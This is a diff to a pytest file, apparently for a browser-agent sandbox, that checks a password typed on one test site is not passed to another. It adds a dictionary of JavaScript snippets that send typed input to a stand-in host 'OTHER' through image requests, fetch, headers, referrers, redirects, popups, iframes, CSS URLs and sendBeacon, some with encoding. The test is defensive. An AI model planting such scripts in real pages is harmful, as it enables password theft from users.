@@ -26,7 +26,7 @@ from exact.runs.runner import Runner, create
 from exact.task import Task
 from tests.environments.browser.pages import find
 
-from .attack import CONFIG, KINDS, environments, require_sandbox
+from .attack import CONFIG, environments, require_sandbox
 from .hostile import Answer, Attacker, attacker
 
 pytestmark = pytest.mark.asyncio(loop_scope="module")
@@ -84,9 +84,22 @@ def spellings(secret: str) -> dict[str, str]:
     }  # fmt: skip
 
 
-SENT_ON = pytest.mark.xfail(
-    strict=True, reason="a page into which a secret was typed sends it on to another site of the task, by a request that only reads"
-)
+SENT = {
+    "by_picture": "new Image().src = 'OTHER/got?' + btoa(value)",
+    "by_fetch": "fetch('OTHER/got/' + encodeURIComponent(value), {mode: 'no-cors'})",
+    "by_header": "fetch('OTHER/got', {mode: 'no-cors', headers: {Accept: btoa(value), 'Accept-Language': [...value].join(' ')}})",
+    "by_referrer": "history.replaceState(0, '', '?' + encodeURIComponent(value)); "
+    "fetch('OTHER/got', {mode: 'no-cors', referrerPolicy: 'unsafe-url'})",
+    "by_redirect": "fetch('/hop', {mode: 'no-cors'})",
+    "by_navigation": "location = 'OTHER/got?' + [...value].map(c => c.charCodeAt(0).toString(16)).join('')",
+    "by_popup": "open('OTHER/got?' + [...value].reverse().join(''))",
+    "by_frame": "const f = document.body.appendChild(document.createElement('iframe')); f.src = 'OTHER/frame'; "
+    "f.onload = () => f.contentWindow.postMessage(encodeURIComponent(value), '*')",
+    "by_style": "document.body.style.background = `url(OTHER/got?${encodeURIComponent(value)})`",
+    "by_letters": "fetch('OTHER/got?typed=' + value.length + '-' + value.slice(-1).charCodeAt(0), {mode: 'no-cors'})",
+    "by_beacon": "navigator.sendBeacon('OTHER/got', value)",
+}
+"""Scripts that send what was typed to the other site, which the task allows."""
 
 
 class TypesThePassword:
@@ -113,10 +126,13 @@ def site() -> Iterator[Attacker]:
         made.own.answers.update({"/in": Answer(PAGE.encode()), "/token": Answer(echo="X-Token"), "/basic": Answer(echo="Authorization")})
         made.other.answers["/in"] = Answer(b"<form action=/got><input name=p aria-label=Password><button>Go</button></form>")
         form = f"<form action={made.beside}/got METHOD><input name=p aria-label=Password><button>Go</button></form>"
-        made.own.answers["/by_get"] = Answer(form.replace("METHOD", "").encode())
         made.own.answers["/by_post"] = Answer(form.replace("METHOD", "method=post").encode())
-        script = "<input aria-label=Password oninput=\"new Image().src = 'OTHER/got?' + btoa(value)\"><button>Go</button>"
-        made.own.answers["/by_script"] = Answer(script.replace("OTHER", made.beside).encode())
+        for name, script in SENT.items():
+            page = f'<input aria-label=Password oninput="{script}"><button>Go</button>'.replace("OTHER", made.beside)
+            made.own.answers[f"/{name}"] = Answer(page.encode())
+        made.own.answers["/by_get"] = Answer(form.replace("METHOD", "").encode())
+        made.own.answers["/hop"] = Answer(b"", status=302, headers=(("Location", f"{made.beside}/got?{quoted(PASSWORD)}"),))
+        made.other.answers["/frame"] = Answer(b"<script>onmessage = e => fetch('/got?' + e.data)</script>")
         yield made
 
 
@@ -213,8 +229,9 @@ async def test_a_password_is_in_no_picture(run: Path) -> None:
         assert not [count for count, (red, green, blue) in colours if count > 20 and red > 200 and green < 90 and blue > 200]
 
 
-@pytest.mark.parametrize("path", ["other", "by_post", pytest.param("by_get", marks=SENT_ON), pytest.param("by_script", marks=SENT_ON)])
-@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize(
+    ("kind", "path"), [*(("process", path) for path in ("other", "by_post", "by_get", *SENT)), ("sandbox", "other"), ("sandbox", "by_get")]
+)
 async def test_a_password_of_one_site_is_not_given_to_another(
     executable: str, site: Attacker, monkeypatch: pytest.MonkeyPatch, kind: str, path: str
 ) -> None:
@@ -234,9 +251,13 @@ async def test_a_password_of_one_site_is_not_given_to_another(
             for act in ('fill [Password] "<password>"', "click [Go]"):
                 verb, _, rest = act.partition(" [")
                 name, _, text = rest.partition("]")
+                if not any(name in each.name for each in seen.elements):
+                    break  # the page has gone elsewhere
                 found = (await environment.step(environment.actions.parse(f"{verb} [{find(seen, name).id}]{text}"))).observation
                 seen = found or seen
     came = "".join(site.other.heads) + b"".join(site.other.bodies).decode("utf-8", "replace")
     forms = spellings(PASSWORD)
-    assert [name for name in ("plain", "percent", "base64 at 0", "hex") if forms[name].lower() in came.lower()] == []
+    known = ("plain", "percent", "base64 at 0", "hex", "spaced")
+    assert [name for name in known if forms[name].lower() in came.lower()] == []
+    assert not any(each in came for each in (PASSWORD[::-1], quoted(PASSWORD[::-1]), "typed="))
     assert urllib.parse.quote_plus(PASSWORD) not in came
